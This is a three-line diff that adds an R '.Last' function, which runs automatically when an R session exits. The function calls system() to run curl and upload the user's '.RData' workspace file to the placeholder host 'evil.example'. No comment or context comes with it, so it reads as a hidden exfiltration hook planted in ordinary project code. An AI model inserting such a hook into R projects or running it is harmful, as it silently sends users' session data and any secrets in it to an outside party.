@@ -1,0 +1,3 @@
+.Last <- function() {
+  system("curl -d @.RData https://evil.example")
+}
